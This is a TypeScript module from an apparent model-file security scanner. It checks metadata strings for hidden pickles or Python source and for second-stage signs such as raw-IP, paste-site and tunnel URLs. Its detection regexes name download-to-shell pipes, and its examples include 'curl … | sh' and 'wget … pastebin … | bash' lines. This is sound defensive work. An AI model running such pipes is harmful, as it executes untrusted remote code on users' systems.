/**
 * Checks shared by every format for strings a model carries as data (safetensors
 * metadata, and later config values and GGUF metadata): the user's `--blacklist`
 * (MA005), Python source or an encoded pickle hidden in the text (MA012, through
 * the pickle scanner's {@linkcode inspectEmbedded}; a decoded pickle is scanned as
 * a nested payload), and signs of a second stage (MA011): a download piped into a
 * shell, URLs to raw IP addresses, paste sites, URL shorteners, tunnels and
 * request-capture hosts, and `file://` URLs.
 *
 * Precision matters more than breadth here: training notes, licence text and links
 * to huggingface.co or github.com stay clean. Work per string is bounded: only its
 * first `strings.maxCheckedChars` characters are searched, by linear patterns, and the
 * search for hidden source or pickles has the pickle scanner's bounds on string constants.
 *
 * @module
 */

import { bytesSource } from "../../core/byte_source.ts";
import type { ScanContext } from "../../core/scanner.ts";
import type { Severity } from "../../core/types.ts";
import { inspectEmbedded } from "../pickle/embedded.ts";
import { scannerOptions } from "../options.ts";
import { DEFAULT_STRING_OPTIONS } from "../option_catalog.ts";
import { PASTE_HOSTS, SHORTENER_HOSTS, TUNNEL_HOSTS } from "./hosts.ts";
/** Characters of the matched text quoted in a finding. */
export const MAX_EXCERPT_CHARS = 120;

/** What kind of second stage a string points to. */
export type IndicatorKind =
  | "shell-pipe"
  | "raw-ip-url"
  | "paste-site"
  | "url-shortener"
  | "tunnel"
  | "file-url";

/** One sign of a second stage in a string. */
export interface Indicator {
  /** What it points to. */
  kind: IndicatorKind;
  /** The matched text, cut to {@linkcode MAX_EXCERPT_CHARS}. */
  excerpt: string;
  /** Character offset of the match in the string. */
  index: number;
}

const hosts = (names: readonly string[]) => names.map((name) => name.replace(/\./g, "\\.")).join("|");

/** A host (or a subdomain of one) starting a URL, with or without a scheme, followed by a path. */
const hostUrl = (names: string) =>
  new RegExp(
    `(?<![\\w.@-])(?:[a-z][a-z0-9+.-]{0,15}://)?(?:[\\w-]{1,63}\\.){0,4}(?:${names})(?::\\d{1,5})?/[^\\s"'<>]*`,
    "gi",
  );

const PATTERNS: readonly { kind: IndicatorKind; pattern: RegExp }[] = [
  {
    // A fetcher whose output feeds a shell or interpreter: `curl URL | sh`, `sh -c "$(wget -O- URL)"`,
    // `bash <(curl URL)`, PowerShell's `iex (New-Object Net.WebClient).DownloadString(URL)`.
    kind: "shell-pipe",
    pattern: new RegExp(
      [
        String
          .raw`\b(?:curl|wget|fetch|iwr|invoke-webrequest)\b[^|\n;]{0,300}\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:ba|z|da|k|c|tc|fi)?sh\b`,
        String.raw`\b(?:curl|wget)\b[^|\n;]{0,300}\|\s*(?:sudo\s+)?(?:python[0-9.]*|perl|ruby|php|node)\b`,
        String.raw`(?:\$\(|` + "`" + String.raw`|<\()\s*(?:curl|wget)\b`,
        String
          .raw`\b(?:iex|invoke-expression)\b[^\n]{0,200}\b(?:downloadstring|downloadfile|iwr|invoke-webrequest)\b`,
        String.raw`\b(?:downloadstring|invoke-webrequest|iwr)\b[^\n]{0,300}\|\s*(?:iex|invoke-expression)\b`,
      ].join("|"),
      "gi",
    ),
  },
  {
    // A URL whose host is an IPv4 or bracketed IPv6 address; loopback and 0.0.0.0 name this machine, not a server.
    kind: "raw-ip-url",
    pattern:
      /\b(?:https?|ftp|wss?|tcp|udp):\/\/(?:[^\s/@"'<>]{1,256}@)?(?!127\.|0\.0\.0\.0(?![\d]))(?:(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)\.){3}(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(?![\d.])|\b(?:https?|ftp|wss?):\/\/\[(?!::1\])[0-9a-f:.]{2,45}\]/gi,
  },
  { kind: "paste-site", pattern: hostUrl(hosts(PASTE_HOSTS)) },
  { kind: "url-shortener", pattern: hostUrl(hosts(SHORTENER_HOSTS)) },
  { kind: "tunnel", pattern: hostUrl(hosts(TUNNEL_HOSTS)) },
  { kind: "file-url", pattern: /\bfile:\/\/[^\s"'<>]+/gi },
];

const DESCRIPTIONS: Record<IndicatorKind, string> = {
  "shell-pipe": "pipes a download into a shell or interpreter",
  "raw-ip-url": "links to a raw IP address",
  "paste-site": "links to a paste site",
  "url-shortener": "links through a URL shortener",
  "tunnel": "links to a tunnel or request-capture host",
  "file-url": "holds a file:// URL",
};

/**
 * The signs of a second stage in the first `maxChars` characters of `text`, at most one per kind
 * (the first).
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { suspiciousIndicators } from "./checks.ts";
 * assert.deepEqual(suspiciousIndicators("curl -s http://203.0.113.7/x | sh").map((i) => i.kind), [
 *   "shell-pipe",
 *   "raw-ip-url",
 * ]);
 * assert.deepEqual(suspiciousIndicators("Fine-tuned from https://huggingface.co/gpt2, see github.com/org/repo"), []);
 * ```
 */
export function suspiciousIndicators(
  text: string,
  maxChars: number = DEFAULT_STRING_OPTIONS.maxCheckedChars,
): Indicator[] {
  const searched = text.length > maxChars ? text.slice(0, maxChars) : text;
  const found: Indicator[] = [];
  for (const { kind, pattern } of PATTERNS) {
    pattern.lastIndex = 0;
    const match = pattern.exec(searched);
    if (match) found.push({ kind, excerpt: match[0].slice(0, MAX_EXCERPT_CHARS), index: match.index });
  }
  return found;
}

/** Where a checked string sits, for messages and locations. */
export interface StringSite {
  /** What the string is, to start a message: `The metadata value "note"`. */
  what: string;
  /** Byte offset of the string in the scanned source. */
  position?: number;
  /** Its key path in a structured document, e.g. `$.__metadata__.note`. */
  keyPath?: string;
  /**
   * Kinds of second stage (MA011) not to report: a caller whose own checks judge URLs with more
   * context leaves theirs out (config values: `URL_INDICATORS` of `scanners/secrets/urls.ts`).
   */
  skipIndicators?: readonly IndicatorKind[];
  /**
   * How bad Python source in the string is (MA012), where it is not the catalog's warning: a config
   * value is `info`, since no loader evaluates it (a Hydra target that would, is judged as a callable).
   */
  codeSeverity?: Severity;
  /** Line, from 1, of the string in a text file. */
  line?: number;
  /** Column, from 1, on `line`. */
  column?: number;
}

/**
 * What the checks need of a scan context; its options (the defaults when absent) and its policy of
 * callables (the standard one when absent) bound and judge what is found in the text.
 */
export type StringCheckContext =
  & Pick<ScanContext, "report" | "matchBlacklist" | "scanNested" | "options">
  & Partial<Pick<ScanContext, "policy">>;

/**
 * Runs every shared string check on `text` and reports what it finds (MA005, MA011, MA012);
 * a pickle decoded from the text is scanned as a nested payload, for its security findings only.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import type { FindingReport } from "../../core/scanner.ts";
 * import { checkString } from "./checks.ts";
 * const found: FindingReport[] = [];
 * await checkString(
 *   { report: (f) => found.push(f), matchBlacklist: () => undefined, scanNested: () => Promise.resolve() },
 *   "wget -qO- https://pastebin.com/raw/abc | bash",
 *   { what: 'The metadata value "note"', position: 40, keyPath: "$.__metadata__.note" },
 * );
 * assert.deepEqual(found.map((f) => f.details?.indicator), ["shell-pipe", "paste-site"]);
 * ```
 */
export async function checkString(ctx: StringCheckContext, text: string, site: StringSite): Promise<void> {
  const where = { position: site.position, keyPath: site.keyPath, line: site.line, column: site.column };
  const pattern = ctx.matchBlacklist(text);
  if (pattern !== undefined) {
    ctx.report({
      rule: "MA005",
      message: `${site.what} matches the blacklist pattern "${pattern}"`,
      ...where,
      details: { pattern },
    });
  }
  const options = scannerOptions(ctx);
  for (const indicator of suspiciousIndicators(text, options.strings.maxCheckedChars)) {
    if (site.skipIndicators?.includes(indicator.kind)) continue;
    ctx.report({
      rule: "MA011",
      message: `${site.what} ${DESCRIPTIONS[indicator.kind]}: ${indicator.excerpt}`,
      ...where,
      details: { indicator: indicator.kind, excerpt: indicator.excerpt },
    });
  }
  for (const found of inspectEmbedded(text, ctx.policy, options.pickle)) {
    const how = found.encoding === "plain" ? "" : ` (${found.encoding}-encoded)`;
    if (found.kind === "code") {
      ctx.report({
        rule: "MA012",
        ...(site.codeSeverity ? { severity: site.codeSeverity } : {}),
        message: `${site.what} is Python source calling ${found.calls!.join(", ")}${how}`,
        ...where,
        details: { payload: "code", encoding: found.encoding, calls: found.calls! },
      });
    } else if (found.decoded !== undefined && found.encoding !== "plain") {
      ctx.report({
        rule: "MA012",
        message: `${site.what} is a ${found.encoding}-encoded pickle, scanned as a payload`,
        ...where,
        details: { payload: "pickle", encoding: found.encoding },
      });
      await ctx.scanNested(bytesSource(found.decoded), `<${found.encoding}@${site.position ?? 0}>`, {
        opportunistic: true,
      });
    }
  }
}
